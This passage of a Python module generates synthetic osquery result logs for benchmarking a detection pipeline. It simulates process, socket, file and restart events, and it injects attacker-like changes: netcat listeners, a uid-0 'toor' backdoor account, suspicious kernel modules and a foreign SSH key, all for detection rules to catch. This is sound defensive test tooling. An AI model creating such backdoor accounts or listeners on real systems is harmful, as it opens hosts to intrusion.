        self.clock += 1 if rng.random() < 0.4 else 0
        host = rng.choice(self.hosts)
        if self.sequence >= self.next_restart:
            self.next_restart = self.draw_interval(self.restart_lines)
            return self.counter_zero_dump(host)
        if self.sequence >= self.next_netcat:
            self.next_netcat = self.draw_interval(self.netcat_lines)
            return self.start_netcat(host)
        if rng.random() < self.snapshot_share:
            return self.snapshot(host)
        pick = rng.random()
        if pick < 0.34:
            return self.process_events(host)
        if pick < 0.54:
            return self.socket_events(host)
        if pick < 0.62:
            return self.file_events(host)
        if pick < 0.90:
            return self.process_churn(host)
        if pick < 0.95:
            return self.schedule_churn(host)
        if pick < 0.985:
            return self.process_start_or_exit(host)
        return self.rare_change(host)

    def event_counter(self, host, query):
        # Event tables start at counter 1 (osquery 5.8 and later), not 0.
        return host.counter(query) + 1

    def process_events(self, host):
        rng = self.rng
        query = "pack_detection_process_events"
        counter = self.event_counter(host, query)
        lines = []
        for _ in range(1 + int(rng.expovariate(1 / 2.0))):
            path, cmdline, uid = rng.choice(COMMANDS)
            cmdline = host.fill(cmdline)
            parent = rng.choice(list(host.processes))
            pid = host.next_pid
            host.next_pid += 1
            row = {"atime": self.clock - rng.randrange(86400 * 30), "auid": uid if uid else 4294967295,
                   "btime": 0, "cmdline": cmdline, "cmdline_size": len(cmdline), "ctime": self.clock - 86400 * 40,
                   "cwd": rng.choice(["/", "/home/deploy", "/srv/storefront", "/var/lib/kubelet"]), "egid": uid,
                   "eid": rng.randrange(100000, 9999999), "env_count": rng.randrange(8, 40),
                   "env_size": rng.randrange(300, 4000), "euid": uid, "fsgid": uid, "fsuid": uid, "gid": uid,
                   "mode": "0100755", "mtime": self.clock - 86400 * 40, "owner_gid": 0, "owner_uid": 0,
                   "parent": parent, "path": path, "pid": pid, "sgid": uid, "status": 0, "suid": uid,
                   "syscall": "execve", "time": self.clock - rng.randrange(60), "uid": uid,
                   "uptime": self.clock - host.boot_time}
            lines.append(self.event_line(host, query, counter, row, "added"))
        return lines

    def socket_events(self, host):
        rng = self.rng
        query = "pack_detection_socket_events"
        counter = self.event_counter(host, query)
        lines = []
        for _ in range(1 + int(rng.expovariate(1 / 2.5))):
            process = rng.choice([p for p in host.processes.values() if not p.kernel][:40])
            action = rng.choice(["connect", "connect", "connect", "accept", "bind"])
            remote = rng.choice(["10.0.%d.%d" % (rng.randrange(8), rng.randrange(1, 255)),
                                 "172.16.%d.%d" % (rng.randrange(16), rng.randrange(1, 255)),
                                 "52.94.%d.%d" % (rng.randrange(256), rng.randrange(1, 255)), "127.0.0.1"])
            row = {"action": action, "auid": 4294967295, "eid": rng.randrange(100000, 9999999),
                   "family": 2, "fd": str(3 + rng.randrange(200)), "local_address": host.ip if action != "bind"
                   else "0.0.0.0", "local_port": 32768 + rng.randrange(28000), "path": process.path,
                   "pid": process.pid, "protocol": 6, "remote_address": remote if action != "bind" else "",
                   "remote_port": rng.choice([443, 5432, 6379, 8080, 53, 9092]) if action != "bind" else 0,
                   "socket": "", "status": "", "success": 1, "time": self.clock - rng.randrange(60),
                   "uptime": self.clock - host.boot_time}
            lines.append(self.event_line(host, query, counter, row, "added"))
        return lines

    def file_events(self, host):
        rng = self.rng
        query = "pack_detection_file_events"
        counter = self.event_counter(host, query)
        lines = []
        for _ in range(1 + int(rng.expovariate(1 / 1.5))):
            category, path = rng.choice(WATCHED_FILES)
            action = rng.choice(["UPDATED", "UPDATED", "CREATED", "ATTRIBUTES_MODIFIED", "DELETED"])
            hashed = action != "DELETED"
            row = {"action": action, "atime": self.clock, "category": category, "ctime": self.clock,
                   "gid": 0, "hashed": 1 if hashed else 0, "inode": rng.randrange(1000, 9000000),
                   "md5": hex_digits(rng, 32) if hashed else "", "mode": rng.choice(["0644", "0600", "0755"]),
                   "mtime": self.clock, "sha1": hex_digits(rng, 40) if hashed else "",
                   "sha256": hex_digits(rng, 64) if hashed else "", "size": rng.randrange(0, 200000),
                   "target_path": host.fill(path), "time": self.clock - rng.randrange(60),
                   "transaction_id": rng.randrange(1, 100000), "uid": 0}
            lines.append(self.event_line(host, query, counter, row, "added"))
        return lines

    def process_churn(self, host):
        """Return a processes run where CPU time and memory of a few processes changed."""
        rng = self.rng
        candidates = [p for p in host.processes.values() if not p.kernel]
        changed = rng.sample(candidates, min(len(candidates), 1 + int(rng.expovariate(1 / 1.5))))
        removed, added = [], []
        for process in changed:
            removed.append(host.process_row(process))
            process.user_time += rng.randrange(1, 500)
            process.system_time += rng.randrange(1, 200)
            process.resident_size = max(4096, process.resident_size + 4096 * rng.randrange(-2000, 2000))
            added.append(host.process_row(process))
        return self.differential(host, "pack_incident-response_processes", removed, added)

    def schedule_churn(self, host):
        """Return an osquery-monitoring run where the statistics of a few queries changed."""
        rng = self.rng
        names = rng.sample(SCHEDULE, 1 + rng.randrange(3))
        removed = [host.schedule_row(name) for name in names]
        for name in names:
            stats = host.schedule[name]
            stats["executions"] += 1
            stats["wall_time"] += rng.randrange(0, 3)
            stats["user_time"] += rng.randrange(1, 40)
            stats["system_time"] += rng.randrange(1, 20)
            stats["output_size"] += rng.randrange(0, 3000)
        added = [host.schedule_row(name) for name in names]
        return self.differential(host, "pack_osquery-monitoring_schedule", removed, added)

    def process_start_or_exit(self, host):
        """Start or stop a worker process and return the processes run that logs it."""
        rng = self.rng
        workers = [p for p in host.processes.values() if not p.kernel and p.parent != 1
                   and p.pid not in host.netcat_pids]
        if workers and rng.random() < 0.5:
            process = rng.choice(workers)
            del host.processes[process.pid]
            return self.differential(host, "pack_incident-response_processes", [host.process_row(process)], [])
        name, path, cmdline, uid = rng.choice(WORKERS)
        parent = next((p.pid for p in host.processes.values() if p.name == name), 1)
        process = host.spawn(name, path, cmdline, uid, [], parent=parent)
        return self.differential(host, "pack_incident-response_processes", [], [host.process_row(process)])

    def rare_change(self, host):
        """Make a change that a detection rule may report (crontab, kernel module, SSH key or
        user) and return the lines that log it."""
        rng = self.rng
        kind = rng.choice(["crontab", "module", "key", "user"])
        if kind == "crontab":
            entry = rng.choice(LATE_CRONTAB)
            if entry in host.crontab:
                host.crontab.remove(entry)
                return self.differential(host, "pack_detection_crontab", [host.crontab_row(entry)], [])
            host.crontab.append(entry)
            return self.differential(host, "pack_detection_crontab", [], [host.crontab_row(entry)])
        if kind == "module":
            name = rng.choice(SUSPICIOUS_MODULES + ["nf_conntrack_ftp", "vfat", "fat", "usb_storage"])
            if name in host.modules:
                size = host.modules.pop(name)
                return self.differential(host, "pack_detection_kernel_modules", [{"name": name, "size": size}], [])
            host.modules[name] = 16384 + 4096 * rng.randrange(100)
            return self.differential(host, "pack_detection_kernel_modules", [],
                                     [{"name": name, "size": host.modules[name]}])
        if kind == "key":
            key = host.ssh_key(rng.choice(SSH_KEY_COMMENTS + ["root@203.0.113.45"]))
            host.keys.append(key)
            return self.differential(host, "pack_detection_authorized_keys", [], [dict(key)])
        # A backdoor account with uid 0 appears, or goes away again.
        backdoor = (0, 0, "toor", "", "/root", "/bin/bash")
        if backdoor in host.users:
            host.users.remove(backdoor)
            return (self.differential(host, "pack_incident-response_users", [host.user_row(backdoor)], [])
                    + self.differential(host, "pack_detection_uid0_users", [host.uid0_row(backdoor)], []))
        host.users.append(backdoor)
        return (self.differential(host, "pack_incident-response_users", [], [host.user_row(backdoor)])
                + self.differential(host, "pack_detection_uid0_users", [], [host.uid0_row(backdoor)]))

    def start_netcat(self, host):
        """Start a netcat listener and return its process event and an added row for each
        query that returns it.

        The listener exits again at the next netcat step of the host, with removed rows.
        """
        lines = []
        for pid in list(host.netcat_pids):
            process = host.processes.pop(pid)
            host.netcat_pids.remove(pid)
            lines += self.differential(host, "pack_detection_listening_processes", host.listening_rows(process), [])
            lines += self.differential(host, "pack_detection_netcat_processes", [host.netcat_row(process)], [])
        name, path, cmdline, port = self.rng.choice(NETCAT)
        shell = next((p.pid for p in host.processes.values() if p.name == "bash"), 1)
        process = host.spawn(name, path, cmdline, 1001, [("0.0.0.0", port, 6)], parent=shell)
        host.netcat_pids.append(process.pid)
        lines += self.netcat_process_event(host, process)
        lines += self.differential(host, "pack_incident-response_processes", [], [host.process_row(process)])
        lines += self.differential(host, "pack_detection_netcat_processes", [], [host.netcat_row(process)])
        lines += self.differential(host, "pack_detection_listening_processes", [], host.listening_rows(process))
        lines += self.differential(host, "pack_incident-response_listening_ports", [],
                                   host.listening_port_rows(process))
        return lines

    def netcat_process_event(self, host, process):
        query = "pack_detection_process_events"
        row = {"atime": self.clock, "auid": 1001, "btime": 0, "cmdline": process.cmdline,
               "cmdline_size": len(process.cmdline), "ctime": self.clock - 86400 * 90, "cwd": process.cwd,
               "egid": 1001, "eid": self.rng.randrange(100000, 9999999), "env_count": 21, "env_size": 1432,
               "euid": 1001, "fsgid": 1001, "fsuid": 1001, "gid": 1001, "mode": "0100755",
               "mtime": self.clock - 86400 * 90, "owner_gid": 0, "owner_uid": 0, "parent": process.parent,
               "path": process.path, "pid": process.pid, "sgid": 1001, "status": 0, "suid": 1001,
               "syscall": "execve", "time": self.clock, "uid": 1001, "uptime": self.clock - host.boot_time}
        return [self.event_line(host, query, self.event_counter(host, query), row, "added")]

    def netcat_listener(self, host_index=0):
        """Return one differential line of `pack_detection_listening_processes` with a new netcat
        listener, which the `netcat_listener` rule reports. Used for latency measurements."""
        host = self.hosts[host_index]
        name, path, cmdline, port = NETCAT[0]
        process = host.spawn(name, path, cmdline, 1001, [("0.0.0.0", port, 6)])
        query = "pack_detection_listening_processes"
        return self.event_line(host, query, host.counter(query), host.listening_rows(process)[0], "added")

    def snapshot(self, host):
        query = self.rng.choice(["pack_snapshots_listening_processes", "pack_snapshots_netcat"])
        if query == "pack_snapshots_netcat":
            rows = [host.netcat_row(host.processes[pid]) for pid in host.netcat_pids]
        else:
            rows = host.state("pack_detection_listening_processes")
        if not rows:
            return []
        return [self.snapshot_line(host, query, rows)]

    def counter_zero_dump(self, host):
        """Return what osquery logs after a restart without its database: every row of every
        differential query as `added`, with counter 0."""
        lines = []
        for query in DIFFERENTIAL_QUERIES:
            lines += self.differential(host, query, [], host.state(query), restart=True)
        return lines


# The `processes` profile: the generator that scripts/bench_agent.py used before this module.

LEGACY_NAMES = ["sshd", "nginx", "postgres", "python3", "node", "java", "containerd", "bash", "cron"]
LEGACY_QUERIES = ["pack_detection_processes", "pack_detection_listening_processes",
                  "pack_incident-response_process_open_sockets", "pack_detection_process_events"]


def legacy_process_line(rng, name=None, pid=None, query=None):
    """Return one differential processes line of about 790 bytes, as bench_agent.py wrote them."""
    name = name or rng.choice(LEGACY_NAMES)
    pid = pid if pid is not None else 1000 + rng.randrange(60000)
    host = "web-%02d.corp.example" % rng.randrange(40)
    record = {
        "name": query or rng.choice(LEGACY_QUERIES), "hostIdentifier": host,
        "calendarTime": "Fri Mar 14 09:12:03 2025 UTC", "unixTime": 1741943523 + rng.randrange(86400),
        "epoch": 0, "counter": 1 + rng.randrange(500), "numerics": False,
        "decorations": {"host_uuid": "8F3A2C1E-5B7D-4E90-A1C3-6D2F0B9E4A17", "hostname": host, "username": "ops"},
        "columns": {
            "cmdline": "/usr/bin/%s --config /etc/%s/%s.conf --workers %d" % (name, name, name, rng.randrange(16)),
            "cwd": "/", "egid": "0", "euid": "0", "gid": "0", "name": name, "nice": "0", "on_disk": "1",
            "parent": "1", "path": "/usr/bin/" + name, "pgroup": str(pid), "pid": str(pid),
            "resident_size": str(rng.randrange(1 << 30)), "root": "/", "sgid": "0",
            "start_time": str(1741900000 + rng.randrange(40000)), "state": "S", "suid": "0",
            "system_time": str(rng.randrange(100000)), "threads": str(rng.randrange(64)), "uid": "0",
            "user_time": str(rng.randrange(100000)), "address": "0.0.0.0", "port": str(rng.randrange(65535)),
            "protocol": "6", "family": "2"},
        "action": "added"}
    return (json.dumps(record, separators=(",", ":")) + "\n").encode()


def legacy_lines(seed):
    rng = random.Random(seed)
    while True:
        data = legacy_process_line(rng)
        yield Line(data, 1, "event", "")


def generate(seed, lines=None, rows=None, profile="fleet", **options):
    """Return generated lines until `lines` lines or at least `rows` rows are reached.

    `options` go to FleetGenerator; the `processes` profile takes none.
    """
    if (lines is None) == (rows is None):
        raise ValueError("give exactly one of lines and rows")
    if profile not in PROFILES:
        raise ValueError("unknown profile %r: expected one of %s" % (profile, ", ".join(PROFILES)))
    source = legacy_lines(seed) if profile == "processes" else iter(FleetGenerator(seed, **options))
    out, total_rows = [], 0
    for line in source:
        if lines is not None and len(out) >= lines:
            break
        if rows is not None and total_rows >= rows:
            break
        out.append(line)
        total_rows += line.rows
    return out


def summary(lines):
    """Return counts and shares of the lines, for the standard error report and the benchmarks."""
    total_bytes = sum(len(line.data) for line in lines)
    rows = sum(line.rows for line in lines)
    shapes = {}
    for line in lines:
        count = shapes.setdefault(line.shape, [0, 0])
        count[0] += 1
        count[1] += line.rows
    return {"lines": len(lines), "rows": rows, "bytes": total_bytes,
            "mean_bytes_per_line": total_bytes / max(1, len(lines)),
            "shapes": {shape: {"lines": count[0], "rows": count[1]} for shape, count in sorted(shapes.items())}}


def main():
    parser = argparse.ArgumentParser(description="Generate a seeded osquery 5 results log for benchmarks.")
    size = parser.add_mutually_exclusive_group(required=True)
    size.add_argument("--lines", type=int, help="number of lines to write")
    size.add_argument("--rows", type=int, help="write lines until they hold at least this many rows")
    parser.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    parser.add_argument("--out", help="output file (default: standard output)")
    parser.add_argument("--profile", choices=PROFILES, default="fleet",
                        help="fleet: realistic query mix (default). processes: the older single-query lines")
    parser.add_argument("--hosts", type=int, default=1, help="number of hostIdentifiers (default 1)")
    parser.add_argument("--batch-share", type=float, default=0.1,
                        help="share of differential query runs logged as one diffResults line (default 0.1)")
    parser.add_argument("--snapshot-share", type=float, default=0.02,
                        help="chance of a snapshot run per step (default 0.02)")
    parser.add_argument("--numerics", action="store_true", help="write integers as JSON numbers, as "
                        "--logger_numerics=true does")
    parser.add_argument("--mark", action="store_true",
                        help="add the decoration bench_seq, the line's sequence number, to every line")
    args = parser.parse_args()

    if args.lines is not None and args.lines < 0 or args.rows is not None and args.rows < 0:
        parser.error("--lines and --rows must not be negative")
    options = {}
    if args.profile == "fleet":
        options = {"hosts": args.hosts, "batch_share": args.batch_share, "snapshot_share": args.snapshot_share,
                   "numerics": args.numerics, "mark": args.mark}
    try:
        lines = generate(args.seed, lines=args.lines, rows=args.rows, profile=args.profile, **options)
    except ValueError as error:
        parser.error(str(error))

    if args.out:
        with open(args.out, "wb") as f:
            f.writelines(line.data for line in lines)
    else:
        sys.stdout.buffer.writelines(line.data for line in lines)
    json.dump(summary(lines), sys.stderr)
    sys.stderr.write("\n")


if __name__ == "__main__":
    main()
